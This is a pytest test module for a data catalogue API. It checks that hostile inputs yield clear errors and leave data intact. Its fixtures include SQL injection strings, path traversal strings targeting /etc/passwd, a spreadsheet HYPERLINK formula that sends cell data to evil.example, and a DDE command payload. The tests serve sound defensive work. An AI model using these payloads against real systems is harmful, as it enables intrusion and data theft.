"""Hostile queries and paths: SQL and search syntax in every parameter the public can send.

Each answer is a clear 400 (or a capped page, or an empty result), never a 500, and the data is
the same afterwards. Plain injection-looking filter values, bad page numbers and search syntax
in the search box are proved in tests/api/test_data_api.py, tests/web/test_bad_input.py and
tests/catalog/test_search_whoosh.py; these add the column names, sorts, sizes and paths.
"""

from __future__ import annotations

import csv
import io

import pytest
from werkzeug.routing import IntegerConverter

from catalog.accounts.users import account_create
from catalog.permissions import Actor
from tests.pages import csrf_token, parse_page
from tests.web.conftest import PASSWORD, Visitor

SPEND = b"supplier,amount\r\nAcme Ltd,120.50\r\nBeta plc,99.00\r\n"
HOSTILE_NAMES = [
    "amount; DROP TABLE datasets",
    "amount) UNION SELECT name FROM sqlite_master --",
    "sqlite_master",
    "pg_catalog.pg_tables",
    "PRAGMA table_info",
    "x; ATTACH DATABASE '/tmp/x.db' AS x",
    '"amount"',
    "amount'",
    "rowid",
    "_row",
]


@pytest.fixture(scope="module")
def client(shared_app):
    return shared_app.test_client()


@pytest.fixture(scope="module")
def spend(shared_catalogue):
    """Made once for the module: every test here only asks, and checks nothing changed."""
    dataset = shared_catalogue.dataset("supplier-spend", files={"spend.csv": SPEND})
    return dataset.resources[0].id


def _rows(client, rid) -> list:
    return client.get(f"/api/data/{rid}?_shape=arrays").get_json()["rows"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
@pytest.mark.parametrize("use", ["filter", "filter__gt", "_sort", "_sort_desc", "_col"])
def test_unknown_or_hostile_column_names_are_a_400_naming_the_parameter(client, spend, name, use):
    before = _rows(client, spend)
    params = {f"{name}__gt" if use == "filter__gt" else name: "1"} if "filter" in use else {}
    params |= {use: name} if use.startswith("_") else {}
    response = client.get(f"/api/data/{spend}", query_string=params)
    assert response.status_code == 400, response.text
    error = response.get_json()["error"]
    assert error["field"] in params and error["message"]
    assert _rows(client, spend) == before


@pytest.mark.parametrize(
    "query",
    [
        "_size=99999999999999999999",
        "_size=-1",
        "_size=1e9",
        "_next=" + "A" * 5000,
        "_next=eyJzb3J0IjoiKSBVTklPTiJ9",
        "_shape=sql",
        "_count=everything",
        "version=-1",
        "version=1e400",
    ],
)
def test_huge_or_malformed_paging_is_a_400(client, spend, query):
    response = client.get(f"/api/data/{spend}?{query}")
    assert response.status_code in (400, 404), response.text
    assert response.get_json()["error"]["message"]


@pytest.mark.parametrize(
    "params",
    [
        {"q": 'title:* OR name:"'},
        {"q": "*:*"},
        {"q": "a~99999"},
        {"q": "(((((((((("},
        {"q": "x" * 5000},
        {"fq": "organization:x) OR (1=1"},
        {"fq": "state:draft"},
        {"fq": "capacity:private"},
        {"sort": "state desc"},
        {"sort": "name asc; DROP TABLE datasets"},
        {"rows": "99999999999999999999"},
        {"start": "-5"},
        {"facet.field": '["state"]'},
        {"facet.field": "not json"},
        {"facet.limit": "99999999999999999999"},
    ],
)
def test_package_search_never_fails_on_hostile_parameters(client, spend, params):
    response = client.get("/api/3/action/package_search", query_string=params)
    assert response.status_code in (200, 400, 409), response.text
    body = response.get_json()
    if response.status_code == 200:
        assert body["result"]["count"] <= 1 and len(body["result"]["results"]) <= 1000
    else:
        assert body["success"] is False and body["error"]["message"]


@pytest.mark.parametrize(
    "query", ["supplier=%00", "supplier__contains=a%00b", "_sort=%00", "_col=%00", "_next=%00"]
)
def test_a_nul_in_a_query_value_is_a_400_or_matches_nothing(client, spend, query):
    response = client.get(f"/api/data/{spend}?{query}")
    assert response.status_code in (200, 400), response.status_code
    if response.status_code == 200:
        assert response.get_json()["rows"] == []


@pytest.mark.parametrize(
    "params",
    [
        {"resource_id": "' OR 1=1 --"},
        {"resource_id": "../../etc/passwd"},
        {"resource_id": "{rid}", "filters": '{"supplier; DROP TABLE x": "a"}'},
        {"resource_id": "{rid}", "sort": "sqlite_master"},
        {"resource_id": "{rid}", "fields": "amount,(SELECT 1)"},
        {"resource_id": "{rid}", "q": "' UNION SELECT * FROM accounts --"},
        {"resource_id": "{rid}", "limit": "99999999999999999999"},
        {"resource_id": "{rid}", "offset": "-1"},
        {"resource_id": "{rid}", "filters": '{"supplier": "a\\u0000b"}'},
        {"resource_id": "{rid}", "filters": '{"supplier": ["a", {"b": 1}]}'},
        {"resource_id": "{rid}", "q": '{"supplier": "x\\u0000"}'},
        {"resource_id": "{rid}", "q": "x')) OR 1=1 --", "plain": "false"},
        {"resource_id": "{rid}", "q": "%_\\%", "plain": "false"},
        {"resource_id": "{rid}", "sort": 'supplier desc; DROP TABLE x, "amount" nulls last'},
        {"resource_id": "{rid}", "fields": "supplier", "distinct": "true", "sort": "amount"},
        {"resource_id": "{rid}", "total_estimation_threshold": "-1"},
        {"resource_id": "{rid}", "records_format": "csv\u0000"},
    ],
)
def test_datastore_search_never_fails_on_hostile_parameters(client, spend, params):
    params = {key: value.replace("{rid}", spend) for key, value in params.items()}
    response = client.get("/api/3/action/datastore_search", query_string=params)
    assert response.status_code in (200, 400, 404, 409), response.text
    if response.status_code == 200:
        assert response.get_json()["result"]["records"] == []
    else:
        assert response.get_json()["error"]["message"]
    assert _rows(client, spend) == [["Acme Ltd", 120.5], ["Beta plc", 99.0]]


TRAVERSALS = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%5c..%5cwindows%5cwin.ini",
    "%2fetc%2fpasswd",
    "C:%5cWindows%5cwin.ini",
    "spend.csv%00.txt",
    "%00",
]


@pytest.mark.parametrize("evil", TRAVERSALS)
@pytest.mark.parametrize(
    "template",
    [
        "/datasets/supplier-spend/resources/{rid}/download/{evil}",
        "/datasets/supplier-spend/resources/{rid}/versions/1/download/{evil}",
        "/datasets/supplier-spend/resources/{evil}",
        "/datasets/supplier-spend/resources/{evil}/download/spend.csv",
        "/api/data/{evil}",
        "/static/{evil}",
        "/assets/{evil}",
        "/schemas/{evil}.json",
        "/datasets/{evil}/datapackage.json",
    ],
)
def test_paths_that_climb_out_or_hold_nul_never_serve_another_file(client, spend, template, evil):
    response = client.get(template.format(rid=spend, evil=evil))
    assert response.status_code in (301, 302, 308, 400, 404), response.status_code
    body = response.get_data()
    assert b"root:" not in body and b"[fonts]" not in body
    if response.status_code in (301, 302, 308):
        # A wrong file name is sent to the file's own name; a doubled slash is merged.
        followed = client.get(response.headers["Location"])
        assert followed.status_code == 404 or followed.get_data() == SPEND


def test_formula_headings_are_neutralised_in_csv_exports_like_any_cell(client, shared_catalogue):
    """A publisher's file whose column headings would run as formulas in a spreadsheet."""
    headings = [
        '=HYPERLINK("http://evil.example/?x="&A2,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
    ]
    header = ",".join('"' + heading.replace('"', '""') + '"' for heading in headings)
    content = f"{header}\r\n=1+1,-2,plain\r\n".encode()
    dataset = shared_catalogue.dataset("formula-headings", files={"headings.csv": content})
    rid = dataset.resources[0].id
    exported = client.get(f"/api/data/{rid}.csv").get_data(as_text=True)
    first, *rows = csv.reader(io.StringIO(exported))
    assert first == ["'" + heading for heading in headings]
    assert rows == [["'=1+1", "-2", "plain"]]


TOO_BIG = str(2**64)
PAST_POSTGRES = str(2**31)  # past PostgreSQL's integer, well within SQLite's
LARGEST = str(2**31 - 1)  # the largest every database holds: no such row, so a plain 404


@pytest.fixture(scope="module")
def admin(shared_app, shared_catalogue) -> Visitor:
    """A signed-in sysadmin, who may open every staff page."""
    account = account_create(
        shared_catalogue.session,
        actor=Actor.system("test"),
        email="numbers@york.gov.uk",
        name="Nora Numbers",
        password=PASSWORD,
        sysadmin=True,
    )
    browser = Visitor(shared_app.test_client())
    assert browser.sign_in(account.email).request.path == "/publish"
    return browser


def _int_routes(app) -> list[tuple[str, str]]:
    """Every route of the app with a number in its path, as (method, rule)."""
    routes = []
    for rule in app.url_map.iter_rules():
        if any(isinstance(c, IntegerConverter) for c in rule._converters.values()):
            routes.append(("GET" if "GET" in rule.methods else "POST", rule))
    return routes


@pytest.mark.parametrize("number", [TOO_BIG, PAST_POSTGRES, LARGEST])
def test_every_number_in_a_path_is_checked_before_it_reaches_the_database(
    shared_app, admin, spend, number
):
    """`/publish/calendar/<2**64>`, `POST /account/tokens/<2**64>/revoke`, versions, runs..."""
    token = csrf_token(parse_page(admin.get("/account/tokens")))
    routes = _int_routes(shared_app)
    assert len(routes) >= 10
    for method, rule in routes:
        values = {}
        for argument, converter in rule._converters.items():
            if isinstance(converter, IntegerConverter):
                values[argument] = int(number)
            elif argument == "resource_id":
                values[argument] = spend
            else:
                values[argument] = sorted(getattr(converter, "items", ["supplier-spend"]))[0]
        _domain, path = rule.build(values, append_unknown=False)
        if method == "GET":
            response = admin.get(path)
        else:
            response = admin.client.post(path, data={"csrf_token": token})
        assert response.status_code == 404, (method, path, response.status_code)


@pytest.mark.parametrize(
    "action, params, status",
    [
        ("organization_show", {"id": TOO_BIG}, 404),
        ("organization_show", {"id": PAST_POSTGRES}, 404),
        ("organization_show", {"id": "\u00b2"}, 404),
        ("group_show", {"id": TOO_BIG}, 404),
        ("package_activity_list", {"id": "supplier-spend", "limit": TOO_BIG}, 409),
        ("package_search", {"start": TOO_BIG}, 409),
        ("package_list", {"offset": TOO_BIG}, 409),
        ("current_package_list_with_resources", {"offset": TOO_BIG}, 409),
    ],
)
def test_every_number_in_a_parameter_is_range_checked(client, spend, action, params, status):
    for response in (
        client.get(f"/api/3/action/{action}", query_string=params),
        client.post(f"/api/3/action/{action}", json=params),
    ):
        assert response.status_code == status, (action, params, response.get_json())
        assert response.get_json()["success"] is False


def test_a_version_number_too_large_for_a_database_is_a_400(client, spend):
    response = client.get(f"/api/data/{spend}", query_string={"version": TOO_BIG})
    assert response.status_code == 400
    assert "version must be a version number" in response.get_json()["error"]["message"]


NESTED = "[" * 1_000 + "]" * 1_000
DEEP_OBJECT = '{"a": ' * 5_000 + "1" + "}" * 5_000


@pytest.mark.parametrize(
    "action, body",
    [
        ("package_search", NESTED),
        ("package_search", '{"q": "x", "fq": ' + NESTED + "}"),
        ("package_create", '{"name": "deep", "extras": ' + DEEP_OBJECT + "}"),
        ("package_create", '{"name": "deep", "notes": "[[[[", "tags": ' + NESTED + "}"),
    ],
    ids=["a thousand [", "deep parameter", "deep object", "deep list"],
)
def test_json_nested_deeper_than_any_request_needs_is_a_400(client, spend, action, body):
    response = client.post(f"/api/3/action/{action}", data=body, content_type="application/json")
    assert response.status_code == 400
    assert "The JSON nests more than 32 levels deep." in response.get_json()["error"]["message"]


def test_a_json_body_too_large_for_any_request_is_a_413(client, spend):
    body = '{"q": "' + "x" * (3 * 1024 * 1024) + '"}'
    response = client.post(
        "/api/3/action/package_search", data=body, content_type="application/json"
    )
    assert response.status_code == 413
    assert "The JSON is larger than 2 MB." in response.get_json()["error"]["message"]


def test_a_json_parameter_nested_too_deep_is_refused_clearly(client, spend):
    response = client.get("/api/3/action/package_search", query_string={"facet.field": NESTED})
    assert response.status_code == 409
    assert response.get_json()["error"]["facet.field"] == ['Send a JSON list, such as ["tags"].']
